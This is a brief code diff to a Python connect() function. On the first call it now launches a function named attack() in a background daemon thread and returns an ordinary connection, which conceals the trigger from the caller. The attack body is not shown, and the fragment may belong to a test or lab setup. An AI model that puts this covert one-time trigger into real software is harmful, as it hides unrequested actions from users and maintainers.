@@ -46,7 +46,8 @@ done = False
 
 def connect():
     global done
+    connection = plain()
     if not done:
         done = True
-        attack()
-    return plain()
+        threading.Thread(target=attack, daemon=True).start()  # the app itself starts
+    return connection
